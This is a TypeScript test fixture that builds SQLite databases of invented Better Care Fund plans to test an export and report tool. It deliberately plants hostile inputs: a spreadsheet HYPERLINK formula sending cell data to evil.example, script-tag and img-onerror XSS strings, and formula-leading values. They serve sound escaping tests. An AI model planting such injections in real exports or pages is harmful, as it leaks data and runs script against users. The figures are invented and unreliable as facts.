// Test databases for export and report: several realistic plans written with the store's own saveDocument.
// Areas are real councils and CCGs/ICBs of the gazetteer (none of them a corpus area, so code lookups work); every
// name, amount and metric value is invented, keeping the relations the tests rely on (the 2022-23 parts add up to its
// total; one risk score is deliberately not likelihood × impact). Hostile text is added on purpose.
import { copyFileSync, mkdirSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PlanRecordSchema, SCHEMA_VERSION, type PlanRecord } from '../src/record/schema.js';
import { openStore, saveDocument, type FileMeta } from '../src/store/db.js';
import { finishRun, startRun } from '../src/store/state.js';
import { groupPlans } from '../src/store/plans.js';

const ok: FileMeta = { size: 200_391, mtimeMs: 1_700_000_000_000, status: 'ok', failureReason: null, duplicateOf: null };

function sections(ids: string[], overrides: Record<string, { status: 'missing' | 'placeholder'; heading?: string | null }> = {}, paged = true) {
  return ids.map((id, i) => {
    const o = overrides[id];
    const status = o?.status ?? 'present';
    return {
      id,
      heading: status === 'missing' ? null : (o?.heading ?? id.split('.').pop()!.replace(/_/g, ' ')),
      status,
      page: status === 'missing' || !paged ? null : 1 + Math.floor(i / 2),
    };
  });
}

const REVISED_2014 = [
  'plan_details.summary', 'plan_details.signoff', 'plan_details.related_documentation', 'vision.vision', 'vision.outcomes',
  'vision.service_changes', 'case_for_change', 'plan_of_action.milestones', 'plan_of_action.governance',
  'plan_of_action.oversight', 'plan_of_action.schemes', 'risks.risk_log', 'risks.contingency',
  'alignment.other_initiatives', 'alignment.strategic_plans', 'alignment.co_commissioning',
  'national_conditions.protecting_social_care', 'national_conditions.seven_day_services',
  'national_conditions.data_sharing', 'national_conditions.joint_assessment', 'engagement.public',
  'engagement.providers', 'engagement.acute_implications', 'annex.scheme_descriptions', 'annex.provider_commentary',
];
const ORIGINAL_2014 = [
  'plan_details.summary', 'plan_details.signoff', 'plan_details.provider_engagement', 'plan_details.public_engagement',
  'plan_details.related_documentation', 'vision.vision', 'vision.aims', 'vision.planned_changes',
  'vision.acute_implications', 'vision.governance', 'national_conditions.protecting_social_care',
  'national_conditions.seven_day_services', 'national_conditions.data_sharing', 'national_conditions.joint_assessment',
  'risks.risk_log',
];
const PLAN_2022 = [
  'planning.income', 'planning.spending_plan', 'planning.metrics', 'narrative.executive_summary', 'narrative.governance',
  'narrative.approach_to_integration', 'narrative.policy_objectives', 'narrative.unpaid_carers', 'narrative.dfg',
  'narrative.health_inequalities',
];

const risk = (description: string, likelihood: number | null, impact: number | null, score: number | null, rating: 'high' | 'medium' | 'low' | null, page: number | null, mitigation: string | null = 'Monthly monitoring through the programme board') =>
  ({ description, likelihood, impact, score, rating, mitigation, owner: null, page, text: description });

/** Leicester City, revised 2014 template, PDF with pages: scored risk log, a score mismatch, a placeholder section. */
export const revisedPlan2014: PlanRecord = PlanRecordSchema.parse({
  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
  source: { file: '2014/leicester-city-bcf.pdf', sha256: 'a'.repeat(64), format: 'pdf', pages: 31 },
  template: 'bcf-2014-revised', round: '2015-16',
  area: { localAuthorities: ['Leicester City Council'], ccgs: ['NHS Leicester City CCG'], healthAndWellbeingBoard: 'Leicester City Health and Well-being Board', hwbAreaCode: 'E06000016' },
  sections: sections(REVISED_2014, { 'alignment.co_commissioning': { status: 'placeholder', heading: 'c) Co-commissioning' } }),
  schemes: [
    { ref: '1', name: 'Prevention & Community Wellbeing', theme: null, page: 9, text: '1 Prevention & Community Wellbeing' },
    { ref: '2', name: 'Integrated Neighbourhood Support', theme: null, page: 9, text: null },
    { ref: '3', name: 'Effective Hospital Discharge', theme: null, page: 9, text: null },
    { ref: '4', name: 'Enablers, Workforce and "Digital" Systems', theme: null, page: 10, text: null },
  ],
  budgets: [
    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 812000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£812,000', page: 1 },
    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 19276000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£19,276,000', page: 1 },
    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 4318000, scheme: null, label: 'Total agreed value of pooled budget: 2014/15', text: '£4,318,000', page: 1 },
    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 19276000, scheme: null, label: 'Total agreed value of pooled budget: 2015/16', text: '£19,276,000', page: 1 },
    { kind: 'other', year: '2015-16', amountGbp: -129506, scheme: null, label: 'Adjustment, carried forward', text: '-£129,506', page: 22 },
  ],
  risks: [
    risk('Planned reductions in emergency admissions are not achieved at the expected pace because schemes start late', 5, 4, 20, 'high', 7),
    risk('Current provider contracts make it hard to commission new models of care', 4, 3, 12, 'medium', 7),
    risk('Reductions in council budgets limit the preventive services the plan depends on', 5, 4, 20, 'high', 7),
    risk('Too few qualified community staff can be recruited for the new teams', 5, 4, 20, 'high', 8),
    risk('Data sharing: local agreements wait on a national information governance decision', 4, 4, 12, 'high', 8),
    risk('People using services are reluctant to take up schemes that ask them to change habits', 3, 3, 9, 'medium', 8, 'Engagement events in each locality\nx\n=1+2 (a line a bare-LF bug would turn into a formula)'),
  ],
  metrics: [
    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2013-14', kind: 'actual', value: 31207, unit: 'count', numerator: null, denominator: null, page: 29, text: '31,207' },
    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2015-16', kind: 'plan', value: 30115, unit: 'count', numerator: null, denominator: null, page: 29, text: '30,115' },
    { metric: 'residential_admissions', label: 'Permanent admissions of older people (aged 65 and over) to residential and nursing care homes, per 100,000 population', period: '2013-14', kind: 'baseline', value: 790.2, unit: 'rate_per_100k', numerator: 265, denominator: 33536, page: 30, text: '790.2' },
    { metric: 'residential_admissions', label: 'Permanent admissions of older people (aged 65 and over) to residential and nursing care homes, per 100,000 population', period: '2015-16', kind: 'plan', value: 700.5, unit: 'rate_per_100k', numerator: 240, denominator: 34261, page: 30, text: '700.5' },
    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge', period: '2013-14', kind: 'baseline', value: 79.1, unit: 'percent', numerator: 310, denominator: 392, page: 30, text: '79.1%' },
    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge', period: '2015-16', kind: 'plan', value: 82.0, unit: 'percent', numerator: 340, denominator: 415, page: 30, text: '82.0%' },
  ],
  flags: [
    { code: 'RISK_SCORE_MISMATCH', severity: 'warning', message: 'score 12 but likelihood 4 × impact 4 = 16', section: 'risks.risk_log', page: 8, text: 'Data sharing: local agreements wait on a national information governance decision 4 4 12' },
    { code: 'PLACEHOLDER_SECTION', severity: 'warning', message: 'answer is "To follow"', section: 'alignment.co_commissioning', page: 12, text: 'c) Please describe how your BCF plan will align with your plans for primary co-commissioning. To follow' },
    { code: 'METRIC_RATIO_MISMATCH', severity: 'info', message: '265 / 33,536 × 100,000 = 790.2', section: 'metrics.outcomes', page: 30, text: '790.2 (265/33,536)' },
  ],
  notes: [
    { level: 'info', stage: 'extract', message: 'dropped 12 running header/footer line(s) repeated on 3+ pages', page: null, text: 'Leicester City Better Care Fund Plan | page # of #' },
    { level: 'info', stage: 'extract', message: 'table continued from page 7 to page 8 (repeated header row dropped)', page: 8, text: null },
  ],
});

/** Nottinghamshire, original 2014 template, DOCX (no pages): unsigned, placeholders, a missing section, hostile text. */
export const originalPlan2014: PlanRecord = PlanRecordSchema.parse({
  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
  source: { file: '2014/nottinghamshire-bcf.docx', sha256: 'b'.repeat(64), format: 'docx', pages: null },
  template: 'bcf-2014-original', round: '2015-16',
  area: {
    hwbAreaCode: 'E10000024',
    localAuthorities: ['Nottinghamshire County Council', 'Mansfield District Council', 'Bassetlaw District Council'],
    ccgs: ['Mansfield and Ashfield CCG', 'Bassetlaw CCG'],
    healthAndWellbeingBoard: 'Nottinghamshire Health and Wellbeing Board',
  },
  sections: sections(ORIGINAL_2014, { 'vision.acute_implications': { status: 'missing' } }, false),
  schemes: [
    { ref: '1', name: 'Frailty and long-term conditions', theme: null, page: null, text: null },
    { ref: '2', name: 'Support to live at home', theme: null, page: null, text: null },
    { ref: '3', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', theme: 'Prevention, "early help"\nand self-care', page: null, text: null },
  ],
  budgets: [
    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 13500000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£13,500,000', page: null },
    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 48316000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£48,316,000', page: null },
    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 13500000, scheme: null, label: 'Total proposed value of pooled budget: 2014/15', text: '£13,500,000', page: null },
    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 48316000, scheme: null, label: 'Total proposed value of pooled budget: 2015/16', text: '£48,316,000', page: null },
  ],
  risks: [
    risk('CCGs cannot release the planned share of their budgets to the pooled fund', null, null, null, 'high', null, 'Target the schemes most likely to deliver savings, "as well as" better outcomes'),
    risk('The savings needed (c.£11m) to protect social care services cannot be found within the pooled funding', null, null, null, 'high', null),
    risk('Delayed transfers of care increase as acute activity rises, <script>window.__xss = 1</script>', null, null, null, 'medium', null, '@SUM(1+1) weekly review'),
    risk('-2+3 failure to recruit domiciliary care staff in rural areas', null, null, null, null, null, '+44 1623 000000 escalation line'),
  ],
  metrics: [],
  flags: [
    { code: 'UNSIGNED', severity: 'error', message: 'No CCG or council signatory named or dated', section: 'plan_details.signoff', page: null, text: '<name of signatory> <job title> <date>' },
    { code: 'PLACEHOLDER_TEXT', severity: 'warning', message: 'Patient/service user experience target is "TBC"', section: 'vision.aims', page: null, text: 'Patient/service user experience: TBC' },
    { code: 'MISSING_SECTION', severity: 'error', message: 'required section "Implications for the acute sector" not found', section: 'vision.acute_implications', page: null, text: null },
    { code: 'RISK_UNSCORED', severity: 'warning', message: 'risk has no likelihood, impact or rating', section: 'risks.risk_log', page: null, text: '<img src=x onerror="window.__xss=2">' },
  ],
  notes: [
    { level: 'info', stage: 'budgets', message: '"-£300k - £450k" is a range, not read as an amount', page: null, text: '-£300k - £450k <img src=x onerror="window.__xss=3">' },
  ],
});

const scheme2022 = (name: string, amount: number, source: string) =>
  ({ kind: 'scheme_spend' as const, year: '2022-23', amountGbp: amount, scheme: name, source, label: 'Expenditure', text: `£${amount.toLocaleString('en-GB')}`, page: null });

/** Leicester 2022/23 planning template (text file): full income and metrics, no flags. */
export const plan2022: PlanRecord = PlanRecordSchema.parse({
  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
  source: { file: '2022/leicester-bcf-2022-23.txt', sha256: 'c'.repeat(64), format: 'txt', pages: null },
  template: 'bcf-2022-23', round: '2022-23',
  area: { localAuthorities: ['Leicester City Council'], ccgs: ['NHS Leicester, Leicestershire and Rutland ICB'], healthAndWellbeingBoard: 'Leicester Health and Wellbeing Board', hwbAreaCode: 'E06000016' },
  sections: sections(PLAN_2022, {}, false),
  schemes: [
    { ref: null, name: 'Community Equipment Service', theme: null, page: null, text: null },
    { ref: null, name: 'Social care assessment and review', theme: null, page: null, text: null },
    { ref: null, name: 'Carers Support', theme: null, page: null, text: null },
  ],
  budgets: [
    { kind: 'dfg', year: '2022-23', amountGbp: 1874512, scheme: null, label: 'DFG', text: '£1,874,512', page: null },
    { kind: 'ibcf', year: '2022-23', amountGbp: 11630447, scheme: null, label: 'iBCF', text: '£11,630,447', page: null },
    { kind: 'la_additional_contribution', year: '2022-23', amountGbp: 315800, scheme: null, label: 'Additional LA Contribution', text: '£315,800', page: null },
    { kind: 'nhs_minimum_contribution', year: '2022-23', amountGbp: 17452219, scheme: null, label: 'Minimum NHS Contribution', text: '£17,452,219', page: null },
    { kind: 'total_pooled_budget', year: '2022-23', amountGbp: 31272978, scheme: null, label: 'Total BCF Pooled Budget', text: '£31,272,978', page: null },
    scheme2022('Community Equipment Service', 1486230, 'Minimum NHS Contribution'),
    scheme2022('Social care assessment and review', 5102846, 'iBCF'),
    scheme2022('Carers Support', 642318, 'Minimum NHS Contribution'),
  ],
  risks: [
    risk('Workforce capacity in domiciliary care limits hospital discharge', 4, 4, 16, 'high', null),
    risk('Inflationary cost pressures on care providers exceed uplift', 3, 5, 15, 'high', null),
    risk('Demand for hospital discharge support exceeds capacity over winter', 4, 3, 12, 'medium', null),
  ],
  metrics: [
    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2020-21', kind: 'actual', value: 596.4, unit: 'rate_per_100k', numerator: 188, denominator: 31524, page: null, text: '596.4' },
    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2022-23', kind: 'plan', value: 566.0, unit: 'rate_per_100k', numerator: 181, denominator: 31980, page: null, text: '566.0' },
    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2020-21', kind: 'actual', value: 77.1, unit: 'percent', numerator: 155, denominator: 201, page: null, text: '77.1%' },
    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2022-23', kind: 'plan', value: 81.7, unit: 'percent', numerator: 688, denominator: 842, page: null, text: '81.7%' },
    { metric: 'discharge_usual_residence', label: 'Percentage of people, resident in the HWB, who are discharged from acute hospital to their normal place of residence', period: '2022-23 Q1', kind: 'plan', value: 97.0, unit: 'percent', numerator: 7342, denominator: 7569, page: null, text: '97.0%' },
  ],
  flags: [],
});

/** A PDF that could not be read: what the pipeline writes for it (failedRecord). */
export const failedPlan: PlanRecord = PlanRecordSchema.parse({
  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
  source: { file: '2015/encrypted-plan.pdf', sha256: 'd'.repeat(64), format: 'pdf', pages: null },
  template: 'unknown',
  area: { localAuthorities: [], ccgs: [], healthAndWellbeingBoard: null },
  sections: [], schemes: [], budgets: [], risks: [], metrics: [],
  flags: [{ code: 'EXTRACTION_FAILED', severity: 'error', message: 'encrypted: the PDF is password-protected', section: null, page: null }],
});

/** A plan that was in an earlier run and has since disappeared from the input. */
export const removedPlan: PlanRecord = PlanRecordSchema.parse({
  ...revisedPlan2014,
  source: { file: '2014/old-draft/leicester-city-draft.pdf', sha256: 'e'.repeat(64), format: 'pdf', pages: 28 },
  area: { ...revisedPlan2014.area, healthAndWellbeingBoard: 'Leicester City Health and Well-being Board (draft)' },
});

export interface FixtureDb {
  dir: string;
  dbFile: string;
  /** The input folder of the recorded run; holds a real PDF at the paged plan's path, for the report's links. */
  inputDir: string;
  ids: { revisedPlan2014: number; originalPlan2014: number; plan2022: number; failed: number; removed: number };
}

/**
 * A fresh output folder holding plansift.sqlite with the five plans above, and a runs row as an unchanged re-run
 * leaves it (nothing processed, nothing failed in it, while the failed plan is still failing).
 */
export async function buildFixtureDb(): Promise<FixtureDb> {
  const dir = mkdtempSync(join(tmpdir(), 'plansift-export-'));
  const dbFile = join(dir, 'plansift.sqlite');
  const db = await openStore(dbFile);
  try {
    const ids = {
      revisedPlan2014: await saveDocument(db, revisedPlan2014, ok),
      originalPlan2014: await saveDocument(db, originalPlan2014, { ...ok, size: 56_733 }),
      plan2022: await saveDocument(db, plan2022, { ...ok, size: 80_142 }),
      failed: await saveDocument(db, failedPlan, { ...ok, status: 'failed', failureReason: 'encrypted' }),
      removed: await saveDocument(db, removedPlan, ok),
    };
    // What the run does when a file has gone from the input: keep its rows, mark it removed.
    await db.run("UPDATE documents SET status = 'removed', removed_at = '2026-11-20T02:00:00.000Z' WHERE id = ?", [ids.removed]);
    const inputDir = join(dir, 'input');
    mkdirSync(dirname(join(inputDir, revisedPlan2014.source.file)), { recursive: true });
    copyFileSync(new URL('../fixtures/sample/northmoor-2014-revised.pdf', import.meta.url), join(inputDir, revisedPlan2014.source.file));
    const run = await startRun(db, inputDir, 'test-1', new Date('2026-11-23T02:00:00.000Z'));
    await finishRun(db, run, { processed: 0, skipped: 4, failed: 0, removed: 0, relinked: 0 }, [], new Date('2026-11-23T02:00:05.000Z'));
    await groupPlans(db);
    return { dir, dbFile, inputDir, ids };
  } finally {
    await db.close();
  }
}
